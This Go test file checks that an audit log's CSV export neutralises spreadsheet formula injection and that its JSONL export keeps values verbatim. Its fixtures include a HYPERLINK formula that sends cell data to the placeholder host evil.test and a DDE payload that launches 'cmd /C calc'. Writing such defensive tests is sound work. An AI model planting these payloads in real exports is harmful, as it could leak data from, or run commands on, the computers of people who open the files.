package audit

import (
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
)

// An attacker chooses file names, User-Agents, HELO names, AUTH identities
// and addresses. In the CSV export none of them may start a cell with a
// character a spreadsheet reads as the start of a formula; JSONL keeps them
// verbatim.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	forEachBackend(t, func(t *testing.T, be backend) {
		loc := tokyo(t)
		day := time.Date(2026, 11, 25, 12, 0, 0, 0, loc)
		l := be.open(t, Options{Location: loc, Now: func() time.Time { return day }})
		mustRecord(t, l, Event{Time: day, Type: TypeDownloadOK, Actor: "web",
			FileName:  `=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")`,
			UserAgent: "@SUM(1+1)*cmd|' /C calc'!A0",
			Helo:      "+1-2", AuthUser: "-2+3", Sender: "\tpadded@example.com",
			Recipients: []string{"=1+1@example.net", "ok@example.net"},
			Reason:     "\rcarriage", Detail: "plain text - with a dash later"})

		var out strings.Builder
		if err := l.Export(context.Background(), dayRange(t, l, "2026-11-25", "2026-11-25"), &out, FormatCSV, false); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("parse CSV: %v, %d records", err, len(records))
		}
		col := func(name string) string { return records[1][slices.Index(csvColumns, name)] }
		tests := []struct{ column, want string }{
			{"file_name", `'=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")`},
			{"user_agent", "'@SUM(1+1)*cmd|' /C calc'!A0"},
			{"helo", "'+1-2"},
			{"auth_user", "'-2+3"},
			{"sender", "'\tpadded@example.com"},
			{"recipients", "'=1+1@example.net ok@example.net"},
			{"reason", "'carriage"},                      // with CRLF line ends, encoding/csv drops a lone CR
			{"detail", "plain text - with a dash later"}, // only the first character counts
			{"type", string(TypeDownloadOK)},
		}
		for _, tt := range tests {
			if got := col(tt.column); got != tt.want {
				t.Errorf("%s = %q, want %q", tt.column, got, tt.want)
			}
		}
		for i, cell := range records[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", csvColumns[i], cell)
			}
		}

		var jsonl strings.Builder
		if err := l.Export(context.Background(), Query{}, &jsonl, FormatJSONL, false); err != nil {
			t.Fatal(err)
		}
		line := decodeJSONL(t, jsonl.String())[0]
		if line["file_name"] != `=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")` || line["helo"] != "+1-2" ||
			line["sender"] != "\tpadded@example.com" {
			t.Errorf("JSONL not verbatim: %v", line)
		}
	})
}

func TestNeutraliseCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "'=1": "'=1", "2026-11-25T00:00:00+09:00": "2026-11-25T00:00:00+09:00", "::1": "::1",
	} {
		if got := neutraliseCell(in); got != want {
			t.Errorf("neutraliseCell(%q) = %q, want %q", in, got, want)
		}
	}
}
